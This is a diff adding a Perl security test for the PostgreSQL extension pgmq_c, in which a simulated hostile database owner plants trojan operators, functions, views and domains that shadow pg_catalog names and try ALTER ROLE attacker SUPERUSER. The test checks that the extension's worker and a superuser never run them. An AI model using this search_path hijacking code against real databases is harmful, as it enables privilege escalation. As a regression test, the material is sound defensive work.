@@ -1,0 +1,510 @@
+# 018_security_attacks.pl: a hostile tenant against the background worker
+# and a superuser's maintain_topics() (issue 9, attack classes 1-4).
+#
+# The attacker owns a database (so it may create in public, create schemas
+# and ALTER DATABASE ... SET) but is no superuser; the superuser installed
+# pgmq_c there and let it create queues and topics.  The attacker
+# - plants operators, functions, types (domains) and views that log who
+#   runs them and try ALTER ROLE attacker SUPERUSER, in public, in a schema
+#   named after the bootstrap superuser ("$user" of the worker's and the
+#   superuser's default search_path) and in a schema of its own;
+# - squats the names of its topic's future partitions outside pgmq_c;
+# - creates a queue with enable_notify and delayed messages, and a topic
+#   with a short retention, so that the worker has work: notifications at due
+#   times, partitions made ahead, a partition dropped by retention.
+# Then, with the default search_path:
+#   1. the worker does those passes; a superuser runs maintain_topics();
+# and after ALTER DATABASE attackerdb SET search_path = evil, pg_catalog
+# (and timeouts, read-only transactions, odd date styles, planner settings,
+# a default_tablespace it may not create in),
+# with the worker restarted so that it picks them up:
+#   2. the worker still does all of that; a superuser runs maintain_topics()
+#      with the database's search_path.
+# Each time: no planted object ran (the log stays empty), the attacker is no
+# superuser, every relation pgmq_c made belongs to the extension's owner and
+# lies in the database's default tablespace, the squatters' tables got
+# nothing.
+use strict;
+use warnings FATAL => 'all';
+use PostgreSQL::Test::Cluster;
+use PostgreSQL::Test::Utils;
+use Test::More;
+use Time::HiRes qw(gettimeofday tv_interval usleep);
+
+my $node = PostgreSQL::Test::Cluster->new('attacks');
+$node->init;
+$node->append_conf('postgresql.conf', "shared_preload_libraries = 'pgmq_c'\n");
+$node->start;
+
+# The superuser's sessions override what the attacker may set for the
+# database (search_path included, unless $raw), so that only pgmq_c's own
+# statements can meet the planted objects.
+my $safe_opts = '-c statement_timeout=0 -c lock_timeout=0 '
+  . '-c idle_in_transaction_session_timeout=0 '
+  . '-c default_transaction_read_only=off -c jit=off';
+
+sub connstr_for
+{
+	my ($db, $user, $raw) = @_;
+	my $opts = $safe_opts . ($raw ? '' : ' -c search_path=pg_catalog');
+	return $node->connstr($db) . " user=$user options='$opts'";
+}
+
+my $su = $node->safe_psql('postgres', 'SELECT current_user');
+
+# (and a SET, as the value has a space)
+my $safe_set = "SET default_transaction_isolation = 'read committed';\n";
+
+sub su_sql
+{
+	my ($sql, $db) = @_;
+	return $node->safe_psql($db // 'attackerdb', $safe_set . $sql,
+		connstr => connstr_for($db // 'attackerdb', $su));
+}
+
+sub attacker_sql
+{
+	my ($sql) = @_;
+	return $node->safe_psql('attackerdb', $safe_set . $sql,
+		connstr => connstr_for('attackerdb', 'attacker'));
+}
+
+sub su_poll
+{
+	my ($sql) = @_;
+	for (my $i = 0; $i < 10 * $PostgreSQL::Test::Utils::timeout_default; $i++)
+	{
+		return 1 if su_sql($sql) eq 't';
+		usleep(100_000);
+	}
+	return 0;
+}
+
+#
+# Set-up: roles, the attacker's database, the extension.
+#
+$node->safe_psql('postgres', q{
+CREATE ROLE attacker LOGIN;
+CREATE DATABASE attackerdb OWNER attacker;
+});
+su_sql(q{
+CREATE EXTENSION pgmq_c;
+GRANT EXECUTE ON FUNCTION pgmq_c.create_queue(pg_catalog.text, pg_catalog.interval),
+	pgmq_c.create_topic(pg_catalog.text, pg_catalog.interval, pg_catalog.int8) TO attacker;
+});
+is(su_sql(q{SELECT pg_catalog.has_database_privilege('attacker', 'attackerdb', 'CREATE')
+		   AND pg_catalog.has_schema_privilege('attacker', 'public', 'CREATE')}),
+	't', 'the attacker owns the database: it may create schemas and in public');
+
+#
+# The attacker's tools and plants.
+#
+attacker_sql(qq{
+CREATE SCHEMA attacker;
+GRANT USAGE ON SCHEMA attacker TO PUBLIC;
+CREATE TABLE attacker.log (
+	tag		text,
+	cur		name,
+	sess	name,
+	super	boolean,
+	backend	text,
+	query	text,
+	became_super boolean
+);
+GRANT INSERT ON attacker.log TO PUBLIC;
+CREATE FUNCTION attacker.spy(tag text) RETURNS boolean LANGUAGE plpgsql AS \$\$
+DECLARE
+	ok	boolean := false;
+BEGIN
+	BEGIN
+		ALTER ROLE attacker SUPERUSER;
+		ok := true;
+	EXCEPTION WHEN OTHERS THEN
+		NULL;
+	END;
+	INSERT INTO attacker.log
+	SELECT tag, current_user, session_user, r.rolsuper,
+		   (SELECT a.backend_type FROM pg_catalog.pg_stat_activity a
+			 WHERE a.pid OPERATOR(pg_catalog.=) pg_catalog.pg_backend_pid()),
+		   pg_catalog.current_query(), ok
+	  FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) current_user;
+	RETURN true;
+END \$\$;
+CREATE FUNCTION attacker.trg() RETURNS trigger LANGUAGE plpgsql AS \$\$
+BEGIN
+	PERFORM attacker.spy('trigger on ' OPERATOR(pg_catalog.||) TG_TABLE_SCHEMA
+		OPERATOR(pg_catalog.||) '.' OPERATOR(pg_catalog.||) TG_TABLE_NAME);
+	RETURN NULL;
+END \$\$;
+
+CREATE SCHEMA "$su";
+CREATE SCHEMA evil;
+GRANT USAGE ON SCHEMA "$su", evil TO PUBLIC;
+
+-- plant(schema, label): operators for every pair of the types below that
+-- pg_catalog has, functions, domains and views, each running the spy
+CREATE FUNCTION attacker.plant(s text, label text) RETURNS integer LANGUAGE plpgsql AS \$plant\$
+DECLARE
+	types	text[] := ARRAY['oid', 'regclass', 'regnamespace', 'regrole', 'int2', 'int4',
+							'int8', 'numeric', 'float8', 'text', 'name', '"char"', 'bool',
+							'timestamptz', 'interval', 'jsonb', 'xid8'];
+	ops		text[] := ARRAY['=', '<>', '<', '<=', '>', '>=', '+', '-', '*', '/',
+							'\@>', '||', '~~'];
+	l		text;
+	r		text;
+	op		text;
+	res		text;
+	n		integer := 0;
+	f		text;
+BEGIN
+	FOREACH op IN ARRAY ops
+	LOOP
+		FOREACH l IN ARRAY types
+		LOOP
+			FOREACH r IN ARRAY types
+			LOOP
+				BEGIN
+					EXECUTE pg_catalog.format('SELECT pg_catalog.pg_typeof(NULL::pg_catalog.%s OPERATOR(pg_catalog.%s) NULL::pg_catalog.%s)::pg_catalog.text',
+								   l, op, r) INTO res;
+				EXCEPTION WHEN OTHERS THEN
+					CONTINUE;
+				END;
+				n := n OPERATOR(pg_catalog.+) 1;
+				f := pg_catalog.format('%I.spy_op_%s', s, n);
+				EXECUTE pg_catalog.format('CREATE FUNCTION %s(pg_catalog.%s, pg_catalog.%s) RETURNS %s LANGUAGE plpgsql AS '
+							   '\$b\$BEGIN PERFORM attacker.spy(%L); RETURN \$1 OPERATOR(pg_catalog.%s) \$2; END\$b\$',
+							   f, l, r, res, pg_catalog.concat_ws(' ', label, l, op, r), op);
+				EXECUTE pg_catalog.format('CREATE OPERATOR %I.%s (LEFTARG = pg_catalog.%s, RIGHTARG = pg_catalog.%s, FUNCTION = %s)',
+							   s, op, l, r, f);
+			END LOOP;
+		END LOOP;
+	END LOOP;
+	EXECUTE pg_catalog.format(\$f\$
+CREATE FUNCTION %1\$I.now() RETURNS timestamptz LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.now(); END\$b\$;
+CREATE FUNCTION %1\$I.clock_timestamp() RETURNS timestamptz LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.clock_timestamp(); END\$b\$;
+CREATE FUNCTION %1\$I.nextval(regclass) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.nextval(\$1); END\$b\$;
+CREATE FUNCTION %1\$I.nextval(text) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.nextval(\$1::pg_catalog.regclass); END\$b\$;
+CREATE FUNCTION %1\$I.setval(text, bigint) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.setval(\$1::pg_catalog.regclass, \$2); END\$b\$;
+CREATE FUNCTION %1\$I.setval(regclass, bigint) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.setval(\$1, \$2); END\$b\$;
+CREATE FUNCTION %1\$I.pg_sequence_last_value(text) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.pg_sequence_last_value(\$1::pg_catalog.regclass); END\$b\$;
+CREATE FUNCTION %1\$I.pg_total_relation_size(text) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.pg_total_relation_size(\$1::pg_catalog.regclass); END\$b\$;
+CREATE FUNCTION %1\$I.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.to_regclass(\$1); END\$b\$;
+CREATE FUNCTION %1\$I.pg_advisory_xact_lock(integer) RETURNS void LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); PERFORM pg_catalog.pg_advisory_xact_lock(\$1::pg_catalog.int8); END\$b\$;
+CREATE FUNCTION %1\$I.pg_notify(text, text) RETURNS void LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); PERFORM pg_catalog.pg_notify(\$1, \$2); END\$b\$;
+CREATE FUNCTION %1\$I.length(text) RETURNS integer LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.length(\$1); END\$b\$;
+CREATE FUNCTION %1\$I.starts_with(text, text) RETURNS boolean LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.starts_with(\$1, \$2); END\$b\$;
+CREATE FUNCTION %1\$I.unnest(anyarray) RETURNS SETOF anyelement LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN QUERY SELECT * FROM pg_catalog.unnest(\$1); END\$b\$;
+CREATE FUNCTION %1\$I.generate_series(bigint, bigint) RETURNS SETOF bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN QUERY SELECT * FROM pg_catalog.generate_series(\$1, \$2); END\$b\$;
+CREATE FUNCTION %1\$I.current_setting(text) RETURNS text LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.current_setting(\$1); END\$b\$;
+CREATE FUNCTION %1\$I.spy_sfunc(bigint) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN \$1 OPERATOR(pg_catalog.+) 1; END\$b\$;
+CREATE AGGREGATE %1\$I.count(*) (SFUNC = %1\$I.spy_sfunc, STYPE = bigint, INITCOND = '0');
+CREATE FUNCTION %1\$I.spy_sfunc2(bigint, bigint) RETURNS bigint LANGUAGE plpgsql AS
+  \$b\$BEGIN PERFORM attacker.spy(%2\$L); RETURN pg_catalog.int8larger(\$1, \$2); END\$b\$;
+CREATE AGGREGATE %1\$I.max(bigint) (SFUNC = %1\$I.spy_sfunc2, STYPE = bigint);
+CREATE AGGREGATE %1\$I.min(bigint) (SFUNC = %1\$I.spy_sfunc2, STYPE = bigint);
+CREATE VIEW %1\$I.queues AS SELECT 1 AS queue_id WHERE attacker.spy('view queues');
+CREATE VIEW %1\$I.groups AS SELECT 1 AS group_id WHERE attacker.spy('view groups');
+\$f\$, s, label OPERATOR(pg_catalog.||) ' function');
+	FOREACH r IN ARRAY ARRAY['text', 'jsonb', 'regclass', 'timestamptz', 'int8', 'int4',
+							 'oid', 'name', 'bool', 'numeric', 'float8', 'interval']
+	LOOP
+		EXECUTE pg_catalog.format('CREATE DOMAIN %I.%I AS pg_catalog.%I CHECK (attacker.spy(%L))',
+					   s, r, r, label OPERATOR(pg_catalog.||) ' domain ' OPERATOR(pg_catalog.||) r);
+	END LOOP;
+	FOREACH r IN ARRAY ARRAY['pg_class', 'pg_namespace', 'pg_inherits', 'pg_index',
+							 'pg_database', 'pg_extension', 'pg_roles', 'pg_stat_activity',
+							 'pg_locks', 'pg_settings', 'pg_sequence', 'pg_stat_user_tables',
+							 'pg_partitioned_table', 'pg_depend', 'pg_trigger', 'pg_type']
+	LOOP
+		EXECUTE pg_catalog.format('CREATE VIEW %I.%I AS SELECT * FROM pg_catalog.%I WHERE attacker.spy(%L)',
+					   s, r, r, label OPERATOR(pg_catalog.||) ' view ' OPERATOR(pg_catalog.||) r);
+	END LOOP;
+	RETURN n;
+END \$plant\$;
+});
+foreach my $s ([ 'public', 'public' ], [ $su, '"$user"' ], [ 'evil', 'evil' ])
+{
+	my $n = attacker_sql(qq{SELECT attacker.plant('$s->[0]', '$s->[1]')});
+	ok($n > 300, "the attacker planted $n operators and more in schema $s->[0]");
+}
+
+# how the log looks: rows from anyone but the attacker's own sessions
+my $foreign_rows = q{
+SELECT pg_catalog.string_agg(pg_catalog.concat_ws(' | ', tag, cur, sess, super, backend, became_super, query), E'\n')
+  FROM attacker.log
+ WHERE cur OPERATOR(pg_catalog.<>) 'attacker' OR sess OPERATOR(pg_catalog.<>) 'attacker'};
+my $attacker_state = q{
+SELECT pg_catalog.concat_ws(',', rolsuper, rolcreaterole, rolcreatedb, rolreplication, rolbypassrls)
+  FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) 'attacker'};
+
+# a positive control: the plants do catch an unqualified statement of the
+# superuser (with the default search_path, the planted =(oid, regclass)
+# beats pg_catalog's oid = oid); the attacker is then made superuser, which
+# is taken back at once.
+$node->safe_psql('attackerdb', q{SELECT 0::oid = 'pg_class'::regclass},
+	connstr => $node->connstr('attackerdb') . " user=$su");
+like(su_sql($foreign_rows), qr/^(public|"\$user") oid = regclass \| \Q$su\E \| \Q$su\E \| t \| client backend \| t \|/,
+	'control: a planted operator catches an unqualified statement, and runs as its caller');
+su_sql(q{ALTER ROLE attacker NOSUPERUSER; TRUNCATE attacker.log});
+is(su_sql($attacker_state), 'f,f,f,f,f', 'control undone: the attacker is no superuser');
+
+#
+# The attacker's queue and topic, and the squatting of the topic's future
+# partition names outside pgmq_c.
+#
+attacker_sql(q{
+SELECT pgmq_c.create_queue('aq');
+SELECT pgmq_c.enable_notify('aq');
+SELECT pgmq_c.create_topic('at', '2 seconds', 1000);
+SELECT pgmq_c.create_group('at', 'ag', 'earliest', '30 seconds', '{"k": 1}');
+});
+my $tid = attacker_sql(q{SELECT topic_id FROM pgmq_c.list_topics() WHERE topic_name OPERATOR(pg_catalog.=) 'at'});
+attacker_sql(qq{
+DO \$\$
+DECLARE
+	s	text;
+	k	integer;
+BEGIN
+	FOREACH s IN ARRAY ARRAY['public', 'attacker', '$su']
+	LOOP
+		FOR k IN 0 .. 40
+		LOOP
+			EXECUTE pg_catalog.format('CREATE TABLE %I.%I (msg_id bigint, enqueued_at timestamptz,'
+									  ' deliver_at timestamptz, message jsonb, headers jsonb)',
+									  s, pg_catalog.format('t_%s_p%s', $tid, k));
+			EXECUTE pg_catalog.format('CREATE TRIGGER spy BEFORE INSERT OR UPDATE OR DELETE ON %I.%I'
+									  ' FOR EACH ROW EXECUTE FUNCTION attacker.trg()',
+									  s, pg_catalog.format('t_%s_p%s', $tid, k));
+		END LOOP;
+	END LOOP;
+END \$\$;
+});
+is(attacker_sql(qq{SELECT pg_catalog.count(*) FROM pg_catalog.pg_class
+				  WHERE relname OPERATOR(pg_catalog.~) '^t_${tid}_p[0-9]+\$'
+					AND relnamespace OPERATOR(pg_catalog.<>) 'pgmq_c'::pg_catalog.regnamespace}),
+	'123', 'the attacker squats t_<id>_p0 .. p40 in public, in its own schema and in "$user"');
+
+# a listener for the queue's notifications
+my $listener = $node->background_psql('attackerdb',
+	extra_params => [ '-U', 'attacker' ]);
+$listener->query_safe('LISTEN pgmq_c');
+my @notes;
+
+sub wait_note
+{
+	my ($secs) = @_;
+	my $t0 = [gettimeofday];
+	while (tv_interval($t0) < $secs)
+	{
+		my $out = $listener->query_safe('SELECT 1');
+		while ($out =~ /Asynchronous notification "pgmq_c" with payload "([^"]*)" received/g)
+		{
+			push @notes, $1;
+		}
+		return 1 if @notes;
+		usleep(50_000);
+	}
+	return 0;
+}
+
+sub worker_pid
+{
+	my ($not) = @_;
+	my $cond = defined $not ? "AND pid OPERATOR(pg_catalog.<>) $not" : '';
+	su_poll(qq{
+SELECT pg_catalog.count(*) OPERATOR(pg_catalog.=) 1 FROM pg_catalog.pg_stat_activity
+ WHERE backend_type OPERATOR(pg_catalog.=) 'pgmq_c worker'
+   AND datname OPERATOR(pg_catalog.=) 'attackerdb' $cond})
+	  or return undef;
+	return su_sql(qq{
+SELECT pid FROM pg_catalog.pg_stat_activity
+ WHERE backend_type OPERATOR(pg_catalog.=) 'pgmq_c worker'
+   AND datname OPERATOR(pg_catalog.=) 'attackerdb' $cond});
+}
+
+# Work for the worker on topic $t (created and filled by the attacker): it
+# must make partitions ahead, rotate and drop p0 by retention; and a delayed
+# message on queue aq must be notified.
+sub worker_passes
+{
+	my ($t, $what) = @_;
+	my $id = attacker_sql(qq{SELECT topic_id FROM pgmq_c.list_topics() WHERE topic_name OPERATOR(pg_catalog.=) '$t'});
+	my $log = "pgmq_c.t_$id";
+	attacker_sql(qq{
+SELECT pg_catalog.count(*) FROM pgmq_c.send_batch('$t',
+	ARRAY(SELECT pg_catalog.jsonb_build_object('i', g) FROM pg_catalog.generate_series(1, 1500) g),
+	ARRAY(SELECT '{"k": 1}'::pg_catalog.jsonb FROM pg_catalog.generate_series(1, 1500) g))});
+	attacker_sql(qq{SELECT pgmq_c.send('$t', '{"late": 1}', NULL, '1 second')});
+	ok( su_poll(qq{
+SELECT pg_catalog.count(*) OPERATOR(pg_catalog.>=) 20 FROM pg_catalog.pg_inherits
+ WHERE inhparent OPERATOR(pg_catalog.=) '$log'::pg_catalog.regclass}),
+		"$what: the worker makes partitions ahead of topic $t (20 or more)");
+	ok( su_poll(qq{SELECT pg_catalog.to_regclass('${log}_p0') IS NULL}),
+		"$what: the worker drops the topic's first partition by retention");
+	@notes = ();
+	attacker_sql(q{SELECT pgmq_c.send('aq', '{"due": 1}', NULL, '1 second')});
+	ok(wait_note(30) && $notes[0] eq 'aq',
+		"$what: the worker notifies the delayed message of queue aq when due");
+	# the attacker's group goes past what retention dropped and reads on
+	attacker_sql(qq{SELECT pgmq_c.send('$t', '{"after": 1}', '{"k": 1}')});
+	like(attacker_sql(qq{SELECT pg_catalog.string_agg(message::pg_catalog.text, ',')
+						 FROM pgmq_c.read_group('$t', 'ag', '1 hour', 10000)}),
+		qr/\{"after": 1\}\z/, "$what: the topic's group reads on after the retention drop");
+	attacker_sql(q{SELECT pg_catalog.count(*) FROM pgmq_c.read('aq', '1 hour', 100)});
+}
+
+sub no_harm
+{
+	my ($what) = @_;
+	is(su_sql($foreign_rows), '',
+		"$what: no planted object ran as anyone but the attacker in its own session");
+	is(su_sql($attacker_state), 'f,f,f,f,f', "$what: the attacker is no superuser and has no role attribute");
+	is(su_sql(q{
+SELECT pg_catalog.count(*) FROM pg_catalog.pg_class c, pg_catalog.pg_extension e
+ WHERE e.extname OPERATOR(pg_catalog.=) 'pgmq_c'
+   AND c.relnamespace OPERATOR(pg_catalog.=) 'pgmq_c'::pg_catalog.regnamespace
+   AND c.relowner OPERATOR(pg_catalog.<>) e.extowner}),
+		'0', "$what: every relation in pgmq_c (partitions included) belongs to the extension's owner");
+	is(su_sql(q{
+SELECT pg_catalog.count(*) FROM pg_catalog.pg_class c
+ WHERE c.relnamespace OPERATOR(pg_catalog.=) 'pgmq_c'::pg_catalog.regnamespace
+   AND (c.relhastriggers AND c.relname OPERATOR(pg_catalog.!~) '^(queues|groups|access)$'
+		OR c.relhasrules OR c.relrowsecurity)}),
+		'0', "$what: no trigger, rule or row level security on any per-queue relation");
+	is(su_sql(q{
+SELECT pg_catalog.string_agg(c.relname, ' ' ORDER BY c.oid) FROM pg_catalog.pg_class c
+ WHERE c.relnamespace OPERATOR(pg_catalog.=) 'pgmq_c'::pg_catalog.regnamespace
+   AND c.relkind OPERATOR(pg_catalog.=) ANY ('{r,p}')
+   AND c.reltablespace OPERATOR(pg_catalog.<>) 0}),
+		'', "$what: every relation in pgmq_c is in the database's default tablespace");
+	is(su_sql(q{
+SELECT pg_catalog.sum((pg_catalog.xpath('/row/n/text()', pg_catalog.query_to_xml(
+		pg_catalog.format('SELECT pg_catalog.count(*) AS n FROM %s', c.oid::pg_catalog.regclass),
+		false, true, '')))[1]::pg_catalog.text::pg_catalog.int4)
+  FROM pg_catalog.pg_class c
+ WHERE c.relowner OPERATOR(pg_catalog.=) 'attacker'::pg_catalog.regrole
+   AND c.relkind OPERATOR(pg_catalog.=) 'r'
+   AND c.relname OPERATOR(pg_catalog.~) '^t_[0-9]+_p[0-9]+$'}),
+		'0', "$what: the squatters' tables got no row");
+}
+
+#
+# 1. The default search_path ("$user", public): the worker's passes and a
+# superuser's maintain_topics().
+#
+my $wpid = worker_pid();
+ok(defined $wpid, 'a pgmq_c worker runs for attackerdb');
+worker_passes('at', 'default search_path');
+is(su_sql(q{SELECT pgmq_c.maintain_topics() OPERATOR(pg_catalog.>=) 0}, 'attackerdb'), 't',
+	'a superuser runs maintain_topics()');
+my ($ret, $out, $err) = $node->psql('attackerdb', 'SELECT pgmq_c.maintain_topics()',
+	connstr => connstr_for('attackerdb', $su, 1));
+is($ret, 0, "a superuser runs maintain_topics() with the default search_path $err");
+no_harm('default search_path');
+
+#
+# 2. The database's settings, as its owner may set them: the worker is
+# restarted so that it starts under them.
+#
+($ret, $out, $err) = $node->psql('attackerdb', q{ALTER DATABASE attackerdb SET pgmq_c.max_wait = '1h'},
+	connstr => connstr_for('attackerdb', 'attacker'));
+like($err, qr/permission denied to set parameter "pgmq_c.max_wait"/,
+	'the database owner cannot set pgmq_c.max_wait for its database');
+# a tablespace the attacker may not create in
+su_sql(q{SET allow_in_place_tablespaces = on; CREATE TABLESPACE attacker_ts LOCATION ''}, 'postgres');
+attacker_sql(q{
+ALTER DATABASE attackerdb SET default_tablespace = attacker_ts;
+ALTER DATABASE attackerdb SET search_path = evil, pg_catalog;
+ALTER DATABASE attackerdb SET statement_timeout = '1ms';
+ALTER DATABASE attackerdb SET lock_timeout = '1ms';
+ALTER DATABASE attackerdb SET idle_in_transaction_session_timeout = '1ms';
+ALTER DATABASE attackerdb SET default_transaction_read_only = on;
+ALTER DATABASE attackerdb SET default_transaction_isolation = 'serializable';
+ALTER DATABASE attackerdb SET DateStyle = 'SQL, DMY';
+ALTER DATABASE attackerdb SET IntervalStyle = 'iso_8601';
+ALTER DATABASE attackerdb SET TimeZone = 'Pacific/Chatham';
+ALTER DATABASE attackerdb SET extra_float_digits = -15;
+ALTER DATABASE attackerdb SET enable_indexscan = off;
+ALTER DATABASE attackerdb SET enable_bitmapscan = off;
+ALTER DATABASE attackerdb SET row_security = off;
+ALTER DATABASE attackerdb SET jit = on;
+ALTER DATABASE attackerdb SET jit_above_cost = 0;
+});
+is(su_sql(q{SELECT pg_catalog.pg_terminate_backend(} . $wpid . q{)}), 't',
+	'the worker is terminated');
+my $wpid2 = worker_pid($wpid);
+ok(defined $wpid2, 'the launcher starts a new worker, under the database settings');
+attacker_sql(q{
+SELECT pgmq_c.create_topic('at2', '2 seconds', 1000);
+SELECT pgmq_c.create_group('at2', 'ag', 'earliest', '30 seconds', '{"k": 1}');
+});
+worker_passes('at2', 'search_path = evil, pg_catalog');
+is(su_sql(q{SELECT pg_catalog.count(*) FROM pg_catalog.pg_stat_activity
+			WHERE pid OPERATOR(pg_catalog.=) } . $wpid2), '1',
+	'the same worker still runs (it never failed)');
+($ret, $out, $err) = $node->psql('attackerdb', 'SELECT pgmq_c.maintain_topics()',
+	connstr => connstr_for('attackerdb', $su, 1));
+is($ret, 0, "a superuser runs maintain_topics() with the database's search_path $err");
+($ret, $out, $err) = $node->psql('attackerdb',
+	"SET search_path = \"$su\", public, evil; SELECT pgmq_c.maintain_topics(); SELECT pgmq_c.metrics_all()",
+	connstr => connstr_for('attackerdb', $su, 1));
+is($ret, 0, "and with \"\$user\", public, evil $err");
+no_harm('search_path = evil, pg_catalog');
+
+# the server log has no error or warning from either worker
+my $serverlog = slurp_file($node->logfile);
+foreach my $pid ($wpid, $wpid2)
+{
+	unlike($serverlog, qr/\[$pid\] (ERROR|WARNING):/,
+		"the server log shows no error or warning of worker $pid");
+}
+
+#
+# DROP ROLE knows nothing of pgmq_c's rows: the worker's maintenance pass
+# forgets grants to dropped roles and gives a dropped owner's queues to the
+# extension owner, so no row keeps a bare role OID that a later role could
+# be given.
+#
+su_sql(q{
+CREATE ROLE doomed_owner;
+CREATE ROLE doomed_grantee;
+GRANT EXECUTE ON FUNCTION pgmq_c.create_queue(pg_catalog.text, pg_catalog.interval) TO doomed_owner;
+SET ROLE doomed_owner;
+SELECT pgmq_c.create_queue('doomed_q');
+SELECT pgmq_c.grant_access('doomed_q', 'doomed_grantee', '{send}');
+RESET ROLE;
+REVOKE EXECUTE ON FUNCTION pgmq_c.create_queue(pg_catalog.text, pg_catalog.interval) FROM doomed_owner;
+DROP ROLE doomed_grantee;
+DROP ROLE doomed_owner;
+});
+ok( su_poll(q{SELECT NOT EXISTS (SELECT FROM pgmq_c.access a
+	WHERE NOT EXISTS (SELECT FROM pg_catalog.pg_roles r WHERE r.oid OPERATOR(pg_catalog.=) a.role_id::pg_catalog.oid)
+	  AND a.role_id::pg_catalog.oid OPERATOR(pg_catalog.<>) 0)}),
+	'the worker forgets the grant to a dropped role');
+ok( su_poll(q{SELECT q.owner::pg_catalog.oid OPERATOR(pg_catalog.=) e.extowner
+	FROM pgmq_c.queues q, pg_catalog.pg_extension e
+	WHERE q.queue_name OPERATOR(pg_catalog.=) 'doomed_q' AND e.extname OPERATOR(pg_catalog.=) 'pgmq_c'}),
+	'a dropped owner\'s queue passes to the extension owner');
+is(su_sql(q{SELECT pg_catalog.array_agg(role_name) FROM pgmq_c.list_access('doomed_q')}),
+	"{$su}", 'list_access then names the extension owner alone');
+
+$listener->quit;
+$node->stop;
+done_testing();
